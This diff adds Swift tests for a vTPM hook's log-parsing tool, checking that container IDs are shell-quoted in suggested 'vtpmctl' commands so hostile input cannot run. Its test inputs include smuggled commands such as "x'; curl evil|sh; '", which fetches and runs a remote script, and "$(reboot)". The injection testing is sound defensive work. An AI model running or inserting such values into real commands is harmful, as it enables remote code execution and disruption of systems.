@@ -155,6 +155,31 @@ import Testing
         }
     }
 
+    /// Any process of the host may write a line with our name, and root may run what the advice says.
+    @Test(arguments: [
+        ("x'; curl evil|sh; '", #"'x'\''; curl evil|sh; '\'''"#), ("$(reboot)", "'$(reboot)'"), ("", "''"),
+        ("site/web@1", "site/web@1"), ("e\u{301}'\u{301}x", "'e\u{301}'\\''\u{301}x'"),
+    ])
+    func `an ID stays one word of the command that helps`(state: String, word: String) throws {
+        let fields = LogFields(.refused, LogSubject(container: "db", state: state), LogDetails(reason: .state)).text
+        let line = try #require(LogLine("Jan 13 09:00:08 host vtpm-hook[1]: x \(fields)".utf8))
+        #expect(line.advice?.hasSuffix(" and vtpmctl state verify \(word)") == true)
+        try directory.write("echo", Array("printf %s \(word)".utf8))
+        let shell = try ProgramOutput.read("/bin/sh", ["\(directory.path)/echo"], limit: 4096, timeout: 20_000)
+        #expect(shell == Array(state.utf8))
+    }
+
+    /// With the wrapper, the process that has prepared the TPM says after the hook that it ends.
+    @Test func `the advice is that of the hook's own line`() throws {
+        let subject = LogSubject(container: "db")
+        let refused = LogFields(.refused, subject, LogDetails(reason: .container)).text
+        let lines = ["cannot \(refused)", "the runtime has given it up \(LogFields(.notice, subject).text)"]
+        try directory.write("syslog", Array(lines.map { "Jan 13 09:00:08 host vtpm-hook[1]: \($0)\n" }.joined().utf8))
+        let found = try emptyLog().lines(about: "db")
+        #expect(found.count == 2)
+        #expect(found.last(where: \.isOutcome)?.advice?.contains("The line above says what to change") == true)
+    }
+
     /// Each kind of error of each bad end has its words, and a good end has none.
     @Test(arguments: FailureKind.allCases) func `each reason has its advice`(_ kind: FailureKind) throws {
         for event in [LogEvent.refused, .failed, .stopped] {
